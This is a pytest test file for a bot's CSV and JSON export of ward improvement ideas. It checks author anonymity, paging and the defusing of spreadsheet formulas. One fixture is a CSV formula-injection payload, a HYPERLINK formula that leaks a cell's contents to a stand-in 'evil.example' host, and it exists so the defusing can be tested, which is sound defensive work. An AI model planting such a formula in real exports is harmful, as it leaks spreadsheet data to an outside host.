"""Exporting ideas, on a real SQLite file: every field comes back out of CSV and JSON, anonymous authors stay
unnamed, spreadsheet formulas are defused in CSV only, and a large store streams page by page."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import fields
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import event, update

from bot.clock import SettableClock
from bot.ideas.export import COLUMNS, csv_bytes, neutralise, write_csv, write_json
from bot.ideas.workflow import NewIdea, raise_idea
from storage.db import Database
from storage.export import ExportRow, export_rows
from storage.models import Idea, IdeaStatus
from tests.conftest import START

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _raise(
    db: Database,
    clock: SettableClock,
    problem: str = "The fridge is leaking",
    *,
    workspace: str = "T1",
    channel: str = "C1",
    author: str = "U_ALICE",
    **extra: Any,
) -> int:
    new = NewIdea(
        workspace_id=workspace, channel_id=channel, channel_name="ward-7", author_id=author, problem=problem, **extra
    )
    return raise_idea(db, clock, new).idea.number


def _change(db: Database, workspace: str, number: int, **values: Any) -> None:
    """Decisions and closing written straight to the store: the export reads fields, not how they got there."""
    with db.write() as session:
        session.execute(update(Idea).where(Idea.workspace_id == workspace, Idea.number == number).values(**values))


def _rows(db: Database, **filters: Any) -> list[ExportRow]:
    with db.read() as session:
        return list(export_rows(session, **filters))


def _csv_records(data: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(data, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def _unneutralise(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell


def _done_idea_and_anonymous_one(db: Database, clock: SettableClock) -> None:
    """#1: every field set, most of them looking like formulas; #2: anonymous, just raised."""
    _raise(
        db,
        clock,
        '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
        idea="+1 more pump on each ward",
        benefit="-5 minutes per shift",
        category="flow",
    )
    _change(
        db,
        "T1",
        1,
        status=IdeaStatus.DONE,
        # Given in Helsinki time: the store and the export speak UTC.
        decided_at=datetime(2026, 11, 26, 10, 30, tzinfo=ZoneInfo("Europe/Helsinki")),
        decided_by="U_LEADER",
        started_at=START + timedelta(days=1),
        done_at=START + timedelta(days=3, hours=2, minutes=15),
        outcome="worked",
        result="@here the pumps now live in the clean utility room",
        learned="\tAsk the night shift first",
    )
    clock.advance(timedelta(hours=1))
    _raise(db, clock, "Call bells are hard to hear", author="U_SHY", anonymous=True)


EXPECTED = [
    {
        "id": "1",
        "team": "C1",
        "status": "done",
        "problem": '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
        "idea": "+1 more pump on each ward",
        "benefit": "-5 minutes per shift",
        "category": "flow",
        "author": "U_ALICE",
        "created": "2026-11-25T09:00:00+00:00",
        "decided": "2026-11-26T08:30:00+00:00",
        "done": "2026-11-28T11:15:00+00:00",
        "decided_by": "U_LEADER",
        "outcome": "worked",
        "result": "@here the pumps now live in the clean utility room",
        "learned": "\tAsk the night shift first",
        "credited": "",
    },
    {
        "id": "2",
        "team": "C1",
        "status": "new",
        "problem": "Call bells are hard to hear",
        "idea": "",
        "benefit": "",
        "category": "",
        "author": "",
        "created": "2026-11-25T10:00:00+00:00",
        "decided": "",
        "done": "",
        "decided_by": "",
        "outcome": "",
        "result": "",
        "learned": "",
        "credited": "",
    },
]


def test_the_columns_are_the_export_rows_fields_in_order() -> None:
    assert [f.name for f in fields(ExportRow)] == list(COLUMNS)
    header = (
        "id,team,status,problem,idea,benefit,category,author,created,decided,done,decided_by,outcome,result,learned,"
        "credited"
    )
    assert ",".join(COLUMNS) == header


def test_rows_carry_python_values_with_aware_utc_times(db: Database, clock: SettableClock) -> None:
    _done_idea_and_anonymous_one(db, clock)
    done, anonymous = _rows(db)
    assert done.id == 1 and done.team == "C1" and done.author == "U_ALICE"
    assert done.decided == datetime(2026, 11, 26, 8, 30, tzinfo=UTC)
    assert done.decided is not None and done.decided.utcoffset() == timedelta(0)
    assert anonymous.author is None and anonymous.decided is None and anonymous.done is None


def test_csv_round_trips_every_field_with_formulas_defused(db: Database, clock: SettableClock) -> None:
    _done_idea_and_anonymous_one(db, clock)
    out = io.StringIO(newline="")
    with db.read() as session:
        assert write_csv(export_rows(session), out) == 2

    records = _csv_records(out.getvalue())
    defused = records[0]
    for column in ("problem", "idea", "benefit", "result", "learned"):
        assert defused[column] == "'" + EXPECTED[0][column], column
    assert [{k: _unneutralise(v) for k, v in record.items()} for record in records] == EXPECTED


def test_json_round_trips_every_field_as_stored(db: Database, clock: SettableClock) -> None:
    _done_idea_and_anonymous_one(db, clock)
    out = io.StringIO()
    with db.read() as session:
        assert write_json(export_rows(session), out) == 2

    expected = [{k: (v or None) for k, v in record.items()} | {"id": int(record["id"])} for record in EXPECTED]
    assert json.loads(out.getvalue()) == expected  # data, not a spreadsheet: nothing prefixed


def test_an_anonymous_authors_id_appears_nowhere_in_an_export(db: Database, clock: SettableClock) -> None:
    _raise(db, clock, "Call bells are hard to hear", author="U_SHY", anonymous=True)
    _raise(db, clock, "Named idea", author="U_ALICE")
    with db.read() as session:
        text_csv = csv_bytes(export_rows(session)).decode("utf-8")
    out = io.StringIO()
    with db.read() as session:
        write_json(export_rows(session), out)

    assert [r["author"] for r in _csv_records(text_csv)] == ["", "U_ALICE"]
    assert [r["author"] for r in json.loads(out.getvalue())] == [None, "U_ALICE"]
    assert "U_SHY" not in text_csv and "U_SHY" not in out.getvalue()


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1 more", "'+1 more"),
        ("-5", "'-5"),
        ("@here", "'@here"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("fine as it is", "fine as it is"),
        ("a=b+c", "a=b+c"),
        ("", ""),
        ("'already text", "'already text"),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_filtering_by_workspace_and_by_channel(db: Database, clock: SettableClock) -> None:
    _raise(db, clock, "ward 7 one", workspace="T1", channel="C1")
    _raise(db, clock, "pharmacy one", workspace="T1", channel="C2")
    _raise(db, clock, "other workspace", workspace="T2", channel="C9")
    _raise(db, clock, "ward 7 two", workspace="T1", channel="C1")

    assert [r.problem for r in _rows(db, workspace_id="T1")] == ["ward 7 one", "pharmacy one", "ward 7 two"]
    assert [r.problem for r in _rows(db, workspace_id="T2")] == ["other workspace"]
    assert [r.problem for r in _rows(db, channel_id="C1")] == ["ward 7 one", "ward 7 two"]
    assert [r.problem for r in _rows(db, workspace_id="T1", channel_id="C1")] == ["ward 7 one", "ward 7 two"]
    assert _rows(db, workspace_id="T2", channel_id="C1") == []
    assert _rows(db, workspace_id="T_NONE") == []


def test_rows_come_by_workspace_then_number(db: Database, clock: SettableClock) -> None:
    for workspace in ("T2", "T1", "T2", "T1", "T1"):
        _raise(db, clock, f"from {workspace}", workspace=workspace, channel=f"C_{workspace}")

    assert [(r.team, r.id) for r in _rows(db, batch=2)] == [
        ("C_T1", 1),
        ("C_T1", 2),
        ("C_T1", 3),
        ("C_T2", 1),
        ("C_T2", 2),
    ]


def test_ideas_stream_in_pages_fetched_only_when_needed(db: Database, clock: SettableClock) -> None:
    for n in range(10):
        _raise(db, clock, f"problem {n + 1}")
    queries: list[str] = []

    def count_idea_selects(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT") and "FROM ideas" in statement:
            queries.append(statement)

    event.listen(db.engine, "before_cursor_execute", count_idea_selects)
    try:
        with db.read() as session:
            rows = export_rows(session, batch=3)
            first = next(rows)
            assert len(queries) == 1  # one page, not the whole table
            rest = list(rows)
    finally:
        event.remove(db.engine, "before_cursor_execute", count_idea_selects)

    assert [r.id for r in [first, *rest]] == list(range(1, 11))  # 10 after 9: numbers, not text
    assert [r.problem for r in [first, *rest]] == [f"problem {n}" for n in range(1, 11)]
    assert len(queries) == 4  # pages of 3, 3, 3 and 1
    keyset = "(ideas.workspace_id, ideas.number) >"
    assert keyset not in queries[0] and all(keyset in q for q in queries[1:])  # each page starts after the last


def test_a_batch_must_hold_at_least_one_row(db: Database) -> None:
    with db.read() as session, pytest.raises(ValueError, match="batch"):
        next(export_rows(session, batch=0))


def test_text_with_commas_quotes_newlines_and_unicode_round_trips(db: Database, clock: SettableClock) -> None:
    problem = 'Bed 3, ward 7: "urgent" sign\'s gone\nsecond line\r\nthird — café, ☕, 日本語, 😀'
    _raise(db, clock, problem, idea="Print, laminate;\nrepeat", benefit="“Fewer” calls")

    with db.read() as session:
        data = csv_bytes(export_rows(session))
    out = io.StringIO()
    with db.read() as session:
        write_json(export_rows(session), out)

    assert not data.startswith(b"\xef\xbb\xbf")  # plain UTF-8, no byte order mark
    (record,) = _csv_records(data.decode("utf-8"))
    (obj,) = json.loads(out.getvalue())
    for exported in (record, obj):
        assert exported["problem"] == problem
        assert exported["idea"] == "Print, laminate;\nrepeat"
        assert exported["benefit"] == "“Fewer” calls"


def test_an_empty_store_exports_a_header_and_an_empty_array(db: Database) -> None:
    with db.read() as session:
        data = csv_bytes(export_rows(session))
    assert data == (",".join(COLUMNS) + "\r\n").encode()
    out = io.StringIO()
    with db.read() as session:
        assert write_json(export_rows(session), out) == 0
    assert json.loads(out.getvalue()) == []


def _row(number: int) -> ExportRow:
    return ExportRow(
        *(number, "C1", "new", f"problem {number}", None, None, None, "U_ALICE", START),
        *(None, None, None, None, None, None, None),
    )


@pytest.mark.parametrize("writer", [write_csv, write_json])
def test_writers_write_each_row_as_it_arrives(writer: Any) -> None:
    out = io.StringIO(newline="")

    def rows() -> Iterator[ExportRow]:
        for number in (1, 2, 3):
            yield _row(number)
            # The row just handed over is already out: nothing waits for the whole export.
            assert f"problem {number}" in out.getvalue()

    assert writer(rows(), out) == 3
